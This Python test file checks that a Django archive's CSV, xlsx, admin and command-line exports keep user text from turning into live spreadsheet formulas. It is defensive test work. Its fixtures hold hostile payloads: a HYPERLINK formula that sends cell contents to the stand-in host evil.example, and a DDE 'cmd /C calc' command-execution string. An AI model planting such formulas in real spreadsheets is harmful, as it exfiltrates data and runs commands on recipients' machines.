"""Formula injection: every CSV and xlsx the product writes keeps text as text.

A text typed by a district or an admin (a title such as ``=HYPERLINK(…)``) must never become a
live formula: CSV cells get OWASP's leading apostrophe, xlsx cells are string cells shown as
typed (no cell of type ``f``), and numbers stay numbers.
"""

import csv
import io
import re

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from cases.models import Case
from core.spreadsheet import is_formula_like, safe_cell, safe_row, xlsx_row
from tests.conftest import make_user
from tests.factories import published_case, published_round

EVIL = '=HYPERLINK("http://evil.example/?x="&C3,"详情")'
HOSTILE = [EVIL, "+1+2", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", " =1+1"]


# --- the helper ---------------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_gets_an_apostrophe_in_csv(text):
    assert is_formula_like(text)
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["打造“小嘉帮办”", "a=b", "021-59991234", "", "1+1"])
def test_ordinary_text_is_unchanged(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize("value", [3, -3, 2.5, None, True])
def test_numbers_stay_numbers(value):
    assert safe_cell(value) is value


@pytest.mark.parametrize("text", ["-12", "+8613800000000", "-0.5", "1e5"])
def test_a_plain_number_in_text_computes_nothing_and_is_unchanged(text):
    assert not is_formula_like(text) and safe_cell(text) == text


def test_safe_row_keeps_types():
    assert safe_row([1, "=1", None, "甲"]) == [1, "'=1", None, "甲"]


def read_xlsx(data: bytes):
    """(value, data_type) of every cell of every sheet."""
    book = load_workbook(io.BytesIO(data))
    return [(c.value, c.data_type) for sheet in book for row in sheet.iter_rows() for c in row]


def assert_no_formulas(data: bytes):
    cells = read_xlsx(data)
    assert cells, "empty workbook"
    assert [c for c in cells if c[1] == "f"] == []
    return [value for value, _ in cells]


@pytest.mark.parametrize("write_only", [False, True])
def test_xlsx_cells_show_the_text_as_typed_and_never_a_formula(write_only):
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("s") if write_only else book.active
    sheet.append(xlsx_row(sheet, [*HOSTILE, 7, 2.5, "控制\x01字符"]))
    buffer = io.BytesIO()
    book.save(buffer)
    values = assert_no_formulas(buffer.getvalue())
    assert values == [*HOSTILE, 7, 2.5, "控制\ufffd字符"]
    sheet = load_workbook(io.BytesIO(buffer.getvalue())).worksheets[-1]
    assert sheet.cell(1, 1).quotePrefix and sheet.cell(1, 10).data_type == "n"


# --- every file the product writes ----------------------------------------------------------------


def read_csv(data: bytes):
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def body(response) -> bytes:
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


@pytest.fixture
def evil_archive(db, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    round_ = published_round(2022)
    published_case(round_, tier="优秀案例", rank=1, title=EVIL, body="@SUM(1+1)*cmd|' /C calc'!A0")
    published_case(round_, tier="优秀案例", rank=2, title="-2+3", subtitle="+1+2")
    return round_


def check_csv(data: bytes):
    table = read_csv(data)
    titles = [row[4] for row in table[1:]]
    assert titles == ["'" + EVIL, "'-2+3"]
    assert table[1][7].startswith("一、工作背景")
    assert table[1][2] == "1"  # the rank, a number


def check_xlsx(data: bytes):
    assert_no_formulas(data)
    rows = list(load_workbook(io.BytesIO(data)).active.values)
    assert [r[4] for r in rows[1:]] == [EVIL, "-2+3"]
    assert rows[2][5] == "+1+2"
    assert rows[1][0] == 2022 and rows[1][2] == 1  # numbers stay numbers


@pytest.mark.parametrize("fmt,check", [("csv", check_csv), ("xlsx", check_xlsx)])
def test_public_round_and_search_exports_keep_text_as_text(client, evil_archive, fmt, check):
    check(body(client.get(reverse("publishing:export_round", args=[evil_archive.pk, fmt]))))
    check(body(client.get(reverse("publishing:export_search", args=[fmt]), {"year": "2022"})))
    check(body(client.get(reverse("publishing:export_search", args=[fmt]))))  # whole archive


@pytest.mark.parametrize("fmt,check", [("csv", check_csv), ("xlsx", check_xlsx)])
def test_export_archive_command_keeps_text_as_text(evil_archive, tmp_path, fmt, check):
    target = tmp_path / f"out.{fmt}"
    call_command("export_archive", year=2022, format=fmt, output=str(target), stderr=io.StringIO())
    check(target.read_bytes())


def test_staff_dashboard_excel_keeps_text_as_text(client, evil_archive, district_a):
    staff = make_user("staff", role="staff", is_staff=True)
    client.force_login(staff)
    round_ = published_round(2027)
    Case.objects.create(
        round=round_,
        district=district_a,
        title=EVIL,
        summary="+1+2",
        contact_name="@admin",
        contact_phone="-1+1",
        status=Case.Status.SUBMITTED,
    )
    data = body(client.get(reverse("cases:staff_export", args=[round_.pk])))
    values = assert_no_formulas(data)
    for text in (EVIL, "+1+2", "@admin", "-1+1"):
        assert text in values


def admin_export(client, model_path: str, fmt: str) -> bytes:
    """Export every row through the admin's export form, as a person would."""
    url = f"/admin/{model_path}/export/"
    page = client.get(url).content.decode()
    fields = set(re.findall(r'name="([a-z]+resource_[a-z_]+)"', page))
    choice = re.search(rf'<option value="(\d+)"[^>]*>{fmt}</option>', page).group(1)
    data = {"format": choice, "resource": "0", **{name: "on" for name in fields}}
    response = client.post(url, data)
    assert response.status_code == 200, response.content[:500]
    return body(response)


@pytest.mark.parametrize("model_path", ["cases/case", "cases/round", "accounts/user"])
def test_admin_exports_keep_text_as_text(client, evil_archive, model_path):
    admin = make_user("root", role="staff", is_staff=True, is_superuser=True)
    admin.first_name = EVIL
    admin.save()
    evil_archive.title = "+SUM(1,2)"
    evil_archive.save()
    client.force_login(admin)
    values = assert_no_formulas(admin_export(client, model_path, "xlsx"))
    cells = [cell for row in read_csv(admin_export(client, model_path, "csv")) for cell in row]
    assert not [c for c in cells if is_formula_like(c)]
    expected = {"cases/case": EVIL, "cases/round": "+SUM(1,2)", "accounts/user": EVIL}[model_path]
    assert expected in values and "'" + expected in cells


# --- how fast a workbook is written ---------------------------------------------------------------


def raw_members(data: bytes) -> list[tuple[bytes, bytes]]:
    """Each member of a zip as (its deflated bytes as stored, its content)."""
    import zipfile

    members = []
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for info in archive.infolist():
            assert info.compress_type == zipfile.ZIP_DEFLATED, info.filename
            # The local header: 30 bytes, then the name and the extra field.
            start = info.header_offset
            name_length = int.from_bytes(data[start + 26 : start + 28], "little")
            extra_length = int.from_bytes(data[start + 28 : start + 30], "little")
            begin = start + 30 + name_length + extra_length
            members.append((data[begin : begin + info.compress_size], archive.read(info)))
    return members


def fastest_deflate(content: bytes) -> bytes:
    import zlib

    compressor = zlib.compressobj(1, zlib.DEFLATED, -15)
    return compressor.compress(content) + compressor.flush()


def test_the_public_xlsx_export_is_compressed_at_zlibs_fastest_level(client, evil_archive):
    # openpyxl's own save compresses at zlib's default level, which took more than half of a
    # 1,000-case export's time; the export must stay a readable workbook.
    url = reverse("publishing:export_search", args=["xlsx"])
    for params in ({"year": "2022"}, {}):  # a filtered export, and the whole archive's file
        data = body(client.get(url, params))
        check_xlsx(data)
        members = raw_members(data)
        assert any(b"<sheetData>" in content for _stored, content in members)
        for stored, content in members:
            assert stored == fastest_deflate(content)
